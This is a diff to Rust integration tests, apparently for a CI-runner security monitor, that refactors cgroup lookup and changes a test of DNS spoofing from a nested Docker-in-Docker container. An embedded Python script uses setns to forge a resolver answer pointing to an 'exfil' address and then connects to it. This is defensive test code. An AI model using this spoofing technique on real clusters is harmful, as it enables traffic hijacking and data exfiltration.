@@ -492,6 +492,17 @@ async fn a_runner_that_ends_before_its_job_is_known_is_reported_under_its_scale_
     assert!(job.anomaly_events(world.node).await.is_empty(), "nothing scored without a job");
 }
 
+/// The cgroup v2 directory of process `pid` (below this machine's unified hierarchy).
+fn cgroup_of(pid: u32) -> std::path::PathBuf {
+    let cgroup = std::fs::read_to_string(format!("/proc/{pid}/cgroup")).unwrap();
+    let path = cgroup.lines().find_map(|l| l.strip_prefix("0::")).expect("the process is in the unified hierarchy");
+    let unified = ["/sys/fs/cgroup/unified", "/sys/fs/cgroup"]
+        .into_iter()
+        .find(|p| std::path::Path::new(p).join("cgroup.procs").exists())
+        .unwrap();
+    std::path::PathBuf::from(format!("{unified}{path}"))
+}
+
 /// The process of this machine whose command line contains `needle`, waiting up to 10 s.
 async fn host_pid(needle: &str) -> u32 {
     let started = Instant::now();
@@ -533,14 +544,7 @@ async fn nested_docker_cgroups_and_container_mode_job_pods_are_the_runners_job()
         "(while [ ! -f /tmp/go ]; do sleep 0.1; done; wget -q -O /dev/null http://nested.dind.test:8080/) >/dev/null 2>&1 &",
     );
     let pid = host_pid("nested.dind.test").await;
-    let cgroup = std::fs::read_to_string(format!("/proc/{pid}/cgroup")).unwrap();
-    let container =
-        cgroup.lines().find_map(|l| l.strip_prefix("0::")).expect("the process is in the unified hierarchy");
-    let unified = ["/sys/fs/cgroup/unified", "/sys/fs/cgroup"]
-        .into_iter()
-        .find(|p| std::path::Path::new(p).join("cgroup.procs").exists())
-        .unwrap();
-    let nested = std::path::PathBuf::from(format!("{unified}{container}/docker/4f1c2a"));
+    let nested = cgroup_of(pid).join("docker/4f1c2a");
     std::fs::create_dir_all(&nested).unwrap();
     std::fs::write(nested.join("cgroup.procs"), pid.to_string()).unwrap();
     kubectl(world.node, &["-n", &job.ns, "exec", &name, "--", "touch", "/tmp/go"]);
@@ -749,17 +753,15 @@ async fn a_nested_containers_answer_claiming_the_cluster_resolver_is_not_used_an
     let job = Job::new(world.node, "dindspoof").await;
     let exfil = world.node.add_address(243).unwrap();
     let listener = Listener::start(SocketAddr::from((exfil, 8080))).unwrap();
+    // A name the job uses whose answers come a second late (a slow upstream): the nested
+    // container's answer is there first.
+    world.dns.insert("slow.dindspoof.test", world.node.add_address(244).unwrap());
+    world.dns.delay("slow.dindspoof.test", Duration::from_secs(1));
     // The runner resolves api.github.test in its init container (on the pod's own interface),
     // then waits for its job.
     let name = job.start(world.node, 1001, "api.github.test", "exec sleep 3599").await;
     job.wait_phase(world.node, &name, "Running").await;
     let pid = host_pid("3599").await;
-    let cgroup = std::fs::read_to_string(format!("/proc/{pid}/cgroup")).unwrap();
-    let container = cgroup.lines().find_map(|l| l.strip_prefix("0::")).unwrap().to_string();
-    let unified = ["/sys/fs/cgroup/unified", "/sys/fs/cgroup"]
-        .into_iter()
-        .find(|p| std::path::Path::new(p).join("cgroup.procs").exists())
-        .unwrap();
 
     // The job runs Docker-in-Docker: a bridge in the pod's network namespace and a nested
     // container's namespace behind it, which takes the cluster resolver's address for itself.
@@ -785,12 +787,13 @@ async fn a_nested_containers_answer_claiming_the_cluster_resolver_is_not_used_an
     run(std::process::Command::new("ip").args(["-n", &nested, "link", "set", "dkn0", "up"]));
 
     // A process of the job (in the runner container's cgroup and the pod's network namespace,
-    // root) asks the cluster resolver for api.github.test; a socket it opened in the nested
-    // namespace answers first, from the resolver's address, with the exfiltration address; the
-    // process then calls that address.
+    // root) resolves slow.dindspoof.test, then asks again; this time a socket it opened in the
+    // nested namespace answers first, from the resolver's address, with the exfiltration
+    // address; the process then calls that address.
     let bytes = |b: Vec<u8>| b.iter().map(u8::to_string).collect::<Vec<_>>().join(",");
-    let query = bytes(runwarden_tests::services::dns_query(77, "api.github.test"));
-    let forged = bytes(runwarden_tests::services::dns_answer(77, "api.github.test", exfil));
+    let first = bytes(runwarden_tests::services::dns_query(76, "slow.dindspoof.test"));
+    let query = bytes(runwarden_tests::services::dns_query(77, "slow.dindspoof.test"));
+    let forged = bytes(runwarden_tests::services::dns_answer(77, "slow.dindspoof.test", exfil));
     let script = format!(
         "import ctypes, os, socket\n\
          libc = ctypes.CDLL(None, use_errno=True)\n\
@@ -799,16 +802,17 @@ async fn a_nested_containers_answer_claiming_the_cluster_resolver_is_not_used_an
          fake = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); fake.bind(('{NODE_IP}', 53))\n\
          assert libc.setns(pod, 0x40000000) == 0\n\
          victim = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); victim.bind(('0.0.0.0', 45053))\n\
+         victim.settimeout(5); victim.sendto(bytes([{first}]), ('{NODE_IP}', 53)); victim.recv(2048)\n\
          victim.sendto(bytes([{query}]), ('{NODE_IP}', 53))\n\
          fake.sendto(bytes([{forged}]), ('172.30.0.1', 45053))\n\
-         victim.settimeout(5); got = victim.recv(2048)\n\
+         got = victim.recv(2048)\n\
          assert bytes([{exfil_bytes}]) in got, 'the forged answer came first'\n\
          socket.create_connection(('{exfil}', 8080), timeout=5).close()\n",
-        exfil_bytes = exfil.octets().iter().map(u8::to_string).collect::<Vec<_>>().join(","),
+        exfil_bytes = bytes(exfil.octets().to_vec()),
     );
     let out = std::process::Command::new("sh")
         .args(["-c", "echo $$ > \"$0/cgroup.procs\" && exec \"$@\""])
-        .arg(format!("{unified}{container}"))
+        .arg(cgroup_of(pid))
         .args(["nsenter", "-t", &pid.to_string(), "-n", "python3", "-c", &script])
         .output()
         .unwrap();
